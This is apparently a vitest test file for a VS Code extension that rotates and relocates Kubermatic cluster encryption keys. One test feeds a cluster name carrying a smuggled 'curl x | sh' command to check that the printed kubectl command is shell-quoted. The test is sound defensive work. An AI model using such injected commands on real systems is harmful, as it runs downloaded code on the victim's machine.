import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { KkpEncryption } from '../../../src/app/kkp/kkp-encryption.ts';
import { hashOfSpec, specOfText } from '../../../src/app/kkp/kkp-spec.ts';
import { Failure } from '../../../src/core/errors.ts';
import { editableClusters } from '../../../src/manifest/kkp/rotation-edit.ts';
import { kkpMoveKeysOut } from '../../../src/vscode/kkp/move-keys-out.ts';
import { prepareKkpRotation } from '../../../src/vscode/kkp/prepare-rotation.ts';
import type { Services } from '../../../src/vscode/services.ts';
import { Editor } from '../../support/editor.ts';
import { FakeSession } from '../../support/fake-clusters.ts';
import { answers, messages, questions, Uri, workspace } from '../../support/fake-vscode.ts';

const inline = Buffer.alloc(32, 9).toString('base64');
const reference = (name: string) => `secretRef: {name: ${name}, key: key}`;

function manifest(...keys: readonly string[]): string {
  const items = keys.map((key) => `      - ${key}\n`).join('');
  return `# shop
apiVersion: kubermatic.k8c.io/v1
kind: Cluster
metadata:
  name: abc
spec:
  features: {encryptionAtRest: true}
  encryptionConfiguration:
    enabled: true # on
    resources: [secrets]
    secretbox:
      keys:
${items}`;
}
const old = `name: old\n        ${reference('old')}`;
const next = `name: new\n        ${reference('new')}`;

let editor: Editor;
let seed: FakeSession;
let services: Services;
const row = () => ({
  row: 'kkp-cluster',
  cluster: { title: 'seed', session: seed },
  user: { id: 'abc', title: 'Shop' },
});
const noRow = undefined;

beforeEach(() => {
  editor = new Editor();
  seed = new FakeSession();
  services = {
    ...editor.services,
    clusters: { all: () => [{ id: 'seed', title: 'seed', session: seed }] },
    clustersView: { rowOf: (argument: unknown) => argument },
  } as never;
  editor.folder.write('keys/dev.secretbox', `${Buffer.alloc(32, 5).toString('base64url')}=\n`, 0o600);
  editor.folder.write(
    '.purser.yaml',
    'version: 1\nrules:\n  - path: "**"\n    scheme: secretbox\n    keys: [local:dev]\n    opened-by: pipeline\n',
  );
});
afterEach(() => editor.close());

/** The seed has what a manifest says, as the phase `Active` with its first key. */
function applied(text: string, more: Partial<KkpEncryption> = {}): void {
  const [cluster] = editableClusters(text, 'abc');
  if (cluster?.encryption === undefined) throw new Error('no encryption');
  const spec = specOfText(cluster.encryption);
  const keys = (spec.keys ?? []).map(({ name, secretRef }) => ({
    name,
    from: secretRef === undefined ? ('value' as const) : { secret: secretRef.name, key: secretRef.key },
  }));
  seed.kkpThere.set('abc', {
    cluster: 'abc',
    hash: hashOfSpec(spec),
    feature: true,
    spec: { enabled: spec.enabled, resources: spec.resources ?? [], keys },
    status: { phase: 'Active', activeKey: `secretbox/${keys[0]?.name}`, resources: ['secrets'] },
    conditions: [],
    rollout: { rendered: true, apiServers: 2, updated: 2 },
    ...more,
  });
}
const refusal = async (work: Promise<void>) =>
  work.then(
    () => undefined,
    (error: unknown) => (error instanceof Failure ? error : undefined),
  );

describe('Prepare Key Rotation…', () => {
  it('adds a second key, in a Secret that is sealed before it is written', async () => {
    const document = await editor.open('clusters/abc.yaml', manifest(old));
    applied(manifest(old));
    answers.push('$(add) Add a Second Key…', 'encryption-key-2026-11', '$(server) On the Seed', undefined);
    await prepareKkpRotation(row(), services);
    const [keys] = editableClusters(document.getText(), 'abc').map(
      ({ encryption }) => encryption?.secretbox?.keys,
    );
    expect(keys?.items.map(({ name, secretRef }) => [name?.text, secretRef?.name, secretRef?.key])).toEqual([
      ['old', 'old', 'key'],
      ['encryption-key-2026-11', 'encryption-key-2026-11', 'key'],
    ]);
    const secret = editor.folder.text('clusters/encryption-key-2026-11.yaml');
    expect(secret).toMatch(/namespace: cluster-abc\n[^]*key: "?k8s:enc:secretbox:v1:dev:/);
    expect(messages.join()).toContain('Apply the Secret first');
  });

  it('has KKP copy the Secret from the master, annotated as it must be', async () => {
    await editor.open('abc.yaml', manifest(old));
    applied(manifest(old));
    answers.push('$(add) Add a Second Key…', 'second', '$(cloud) On the Master', 'kubermatic', undefined);
    await prepareKkpRotation(row(), services);
    const secret = editor.folder.text('encryption-key-cluster-abc.yaml');
    expect(secret).toContain('kubermatic.io/cluster-name: abc\n');
    expect(secret).toMatch(/namespace: kubermatic\n[^]*second: "?k8s:enc/);
  });

  it('never replaces the Secret on the master that holds the old key', async () => {
    const text = manifest(`name: old\n        ${reference('encryption-key-cluster-abc')}`);
    const document = await editor.open('abc.yaml', text);
    applied(text);
    answers.push('$(add) Add a Second Key…', 'second', '$(lock) On the Master');
    await prepareKkpRotation(row(), services);
    expect(document.getText()).toBe(text);
    expect(editor.folder.exists('encryption-key-cluster-abc.yaml')).toBe(false);
  });

  it('swaps, and removes once the person has agreed', async () => {
    const document = await editor.open('abc.yaml', manifest(old, next));
    applied(manifest(old, next));
    answers.push('$(arrow-up) Move to the Front: new');
    await prepareKkpRotation(row(), services);
    expect(document.getText()).toBe(manifest(next, old));
    applied(manifest(next, old));
    answers.push('$(trash) Remove: old', undefined);
    await prepareKkpRotation(row(), services);
    expect(document.getText()).toBe(manifest(next, old));
    answers.push('$(trash) Remove: old', 'Remove');
    await prepareKkpRotation(row(), services);
    expect(document.getText()).toBe(manifest(next));
  });

  it('switches off with one word', async () => {
    const document = await editor.open('abc.yaml', manifest(old));
    applied(manifest(old));
    answers.push('$(circle-slash) Switch Encryption Off', 'Switch Off');
    await prepareKkpRotation(row(), services);
    expect(document.getText()).toBe(manifest(old).replace('enabled: true', 'enabled: false'));
  });

  it('shows what is not to be done with the reason, and does not do it', async () => {
    const document = await editor.open('abc.yaml', manifest(old, next));
    applied(manifest(old, next), { rollout: { rendered: true, apiServers: 2, updated: 1 } });
    answers.push('$(lock) Move to the Front: new');
    await prepareKkpRotation(row(), services);
    expect(questions[0]?.message.split('\n')).toEqual([
      '$(lock) Add a Second Key…',
      '$(lock) Move to the Front: new',
      '$(lock) Remove: new',
      '$(circle-slash) Switch Encryption Off',
    ]);
    expect(messages.join()).toContain('1 of 2 API servers');
    expect(document.getText()).toBe(manifest(old, next));
  });

  it('refuses a manifest that says another encryption than the seed has', async () => {
    await editor.open('abc.yaml', manifest(next, old));
    applied(manifest(old, next));
    answers.push('$(arrow-up) Move to the Front: new');
    expect((await refusal(prepareKkpRotation(row(), services)))?.code).toBe('kkp.refused');
  });

  it('says that a name keeps its value, where a manifest gives it another', async () => {
    const other = Buffer.alloc(32, 8).toString('base64');
    await editor.open('abc.yaml', manifest(`name: old\n        value: ${other}`));
    applied(manifest(`name: old\n        value: ${inline}`));
    answers.push('$(circle-slash) Switch Encryption Off');
    const failure = await refusal(prepareKkpRotation(row(), services));
    expect(failure?.details).toMatchObject({ reason: expect.stringContaining('keeps the value') });
    expect(JSON.stringify(failure)).not.toContain(other);
  });

  it('leaves a manifest alone that SOPS has sealed', async () => {
    const sealed = `${manifest(old)}sops:\n  mac: ENC[AES256_GCM,data:AAAA,iv:AAAA,tag:AAAA,type:str]\n  lastmodified: "2026-01-01T00:00:00Z"\n  version: 3.9.4\n`;
    await editor.open('abc.yaml', sealed);
    applied(manifest(old));
    answers.push('$(circle-slash) Switch Encryption Off', 'Switch Off');
    const failure = await refusal(prepareKkpRotation(row(), services));
    expect(failure?.details).toMatchObject({ reason: expect.stringContaining('seal') });
  });

  it('writes a patch where the workspace states no such Cluster, with tests of what it relies on and no key', async () => {
    const text = manifest(`name: old\n        value: ${inline}`, next);
    applied(text);
    answers.push('$(arrow-up) Move to the Front: new', editor.folder.path('swap.json'));
    await prepareKkpRotation(row(), services);
    const patch = editor.folder.text('swap.json');
    const root = '/spec/encryptionConfiguration/secretbox/keys';
    expect(JSON.parse(patch)).toEqual([
      { op: 'test', path: `${root}/0/name`, value: 'old' },
      { op: 'test', path: `${root}/1/name`, value: 'new' },
      { op: 'move', from: `${root}/1`, path: `${root}/0` },
    ]);
    expect(messages.join()).toContain(
      'kubectl patch clusters.kubermatic.k8c.io abc --type json --patch-file swap.json',
    );
  });

  it('writes a command that a shell takes for no other, whatever the seed calls the Cluster', async () => {
    applied(manifest(old, next));
    const kkp = seed.kkpThere.get('abc');
    if (kkp !== undefined) seed.kkpThere.set('abc', { ...kkp, cluster: "abc; curl x | sh '" });
    answers.push('$(arrow-up) Move to the Front: new', editor.folder.path('swap.json'));
    await prepareKkpRotation(row(), services);
    expect(messages.join()).toContain("clusters.kubermatic.k8c.io 'abc; curl x | sh '\\''' --type json");
  });

  it("asks the seed about a user cluster's own row, which need not be connected", async () => {
    const document = await editor.open('abc.yaml', manifest(old));
    applied(manifest(old));
    const source = { from: 'user-cluster', via: 'seed', id: 'abc', title: 'Shop' };
    answers.push('$(circle-slash) Switch Encryption Off', 'Switch Off');
    await prepareKkpRotation({ row: 'cluster', cluster: { source } }, services);
    expect(document.getText()).toContain('enabled: false');
  });

  it('asks of which user cluster, where no row says it', async () => {
    const document = await editor.open('abc.yaml', manifest(old));
    applied(manifest(old));
    seed.userClustersThere = [
      { id: 'abc', title: 'Shop', phase: 'Running', namespace: 'cluster-abc', encryption: 'Active' },
    ];
    answers.push('Shop', '$(circle-slash) Switch Encryption Off', 'Switch Off');
    await prepareKkpRotation(noRow, services);
    expect(document.getText()).toContain('enabled: false');
    seed.userClustersThere = undefined;
    await prepareKkpRotation(noRow, services);
    expect(messages.join()).toContain('No connected cluster is a KKP seed');
  });

  it('asks of which user cluster although another cluster may not be asked, and tells why where that is all', async () => {
    const document = await editor.open('abc.yaml', manifest(old));
    applied(manifest(old));
    seed.userClustersThere = [
      { id: 'abc', title: 'Shop', phase: 'Running', namespace: 'cluster-abc', encryption: 'Active' },
    ];
    const closed = new FakeSession();
    closed.userClusters = () =>
      Promise.reject(new Failure('cluster.forbidden', { server: 'x', what: 'list clusters' }));
    const others = [{ id: 'other', title: 'other', session: closed }];
    const all = (clusters: readonly object[]) =>
      ({ ...services, clusters: { all: () => clusters } }) as never;
    answers.push('Shop', '$(circle-slash) Switch Encryption Off', 'Switch Off');
    await prepareKkpRotation(noRow, all([...others, { id: 'seed', title: 'seed', session: seed }]));
    expect(document.getText()).toContain('enabled: false');
    expect((await refusal(prepareKkpRotation(noRow, all(others))))?.code).toBe('cluster.forbidden');
  });

  it('does nothing in Restricted Mode', async () => {
    workspace.isTrusted = false;
    expect((await refusal(prepareKkpRotation(row(), services)))?.code).toBe('workspace.untrusted');
  });
});

describe('Move Keys Out of KKP Cluster…', () => {
  it('puts the same keys under the same names into a sealed Secret', async () => {
    const document = await editor.open('abc.yaml', manifest(`name: old\n        value: ${inline} # clear`));
    const at = { uri: document.uri.toString(), offset: document.getText().indexOf(inline) };
    answers.push('$(server) On the Seed', 'Move Keys Out', undefined);
    await kkpMoveKeysOut(at, services);
    expect(document.getText()).toBe(
      manifest('name: old\n        secretRef: {name: encryption-keys-abc, key: old} # clear'),
    );
    const path = 'encryption-keys-abc.yaml';
    expect(editor.folder.text(path)).not.toContain(inline);
    const opened = await opens(path);
    expect(opened).toEqual([['stringData.old', inline]]);
  });

  it('never gives the Secret the name of one that holds other keys of the Cluster', async () => {
    const text = manifest(
      `name: old\n        ${reference('encryption-keys-abc')}`,
      `name: new\n        value: ${inline}`,
    );
    const document = await editor.open('abc.yaml', text);
    const at = { uri: document.uri.toString(), offset: document.getText().indexOf(inline) };
    answers.push('$(server) On the Seed', 'Move Keys Out', undefined);
    await kkpMoveKeysOut(at, services);
    expect(document.getText()).toContain('secretRef: {name: encryption-keys-abc-2, key: new}');
    expect(editor.folder.text('encryption-keys-abc-2.yaml')).toContain('name: encryption-keys-abc-2\n');
  });

  it('gives each key an entry of its own, whatever its name', async () => {
    const other = Buffer.alloc(32, 8).toString('base64');
    const keys = [`name: key-2\n        value: ${inline}`, `name: "a b"\n        value: ${other}`];
    const document = await editor.open('abc.yaml', manifest(...keys));
    answers.push('$(server) On the Seed', 'Move Keys Out', undefined);
    await kkpMoveKeysOut({ uri: document.uri.toString(), offset: 0 }, services);
    expect(await opens('encryption-keys-abc.yaml')).toEqual([
      ['stringData.key-2', inline],
      ['stringData.key-2-2', other],
    ]);
  });

  it('moves nothing where two keys have one name', async () => {
    const other = Buffer.alloc(32, 8).toString('base64');
    const keys = [inline, other].map((value) => `name: old\n        value: ${value}`);
    const document = await editor.open('abc.yaml', manifest(...keys));
    const failure = await refusal(kkpMoveKeysOut({ uri: document.uri.toString(), offset: 0 }, services));
    expect(failure?.details).toMatchObject({ reason: expect.stringContaining('one name') });
    expect(document.getText()).toBe(manifest(...keys));
  });

  it('says so where there are none', async () => {
    const document = await editor.open('abc.yaml', manifest(old));
    const at = { uri: document.uri.toString(), offset: 0 };
    expect((await refusal(kkpMoveKeysOut(at, services)))?.code).toBe('kkp.refused');
  });

  it('writes nothing where the key would stay in clear', async () => {
    editor.folder.write('.purser.yaml', 'version: 1\nrules:\n  - path: "**"\n    scheme: sops\n');
    const age = await editor.ownAgeKey();
    editor.folder.write('.sops.yaml', `creation_rules:\n  - encrypted_regex: ^metadata$\n    age: ${age}\n`);
    const document = await editor.open('abc.yaml', manifest(`name: old\n        value: ${inline}`));
    const before = document.getText();
    answers.push('$(server) On the Seed', 'Move Keys Out', undefined);
    const at = { uri: document.uri.toString(), offset: 0 };
    expect((await refusal(kkpMoveKeysOut(at, services)))?.code).toBe('kkp.refused');
    expect(editor.folder.exists('encryption-keys-abc.yaml')).toBe(false);
    expect(document.getText()).toBe(before);
  });

  /** What a sealed Secret holds, opened with the rule's key. */
  async function opens(path: string): Promise<readonly unknown[]> {
    const { openGroups } = await import('../../../src/app/decrypt.ts');
    const { ManifestText } = await import('../../../src/app/manifest-text.ts');
    const { keysFor } = await import('../../../src/vscode/opening.ts');
    const read = ManifestText.read(editor.folder.text(path));
    const { groups } = services.registry.find(read.manifest);
    const document = { uri: Uri.file(editor.folder.path(path)) } as never;
    const results = await openGroups(read, groups, keysFor(document, services), services.registry);
    return results.map((result) =>
      result.ok
        ? [`stringData.${result.value.envelope.entry.key}`, result.value.plaintext.exposeText()]
        : result.failure,
    );
  }
});
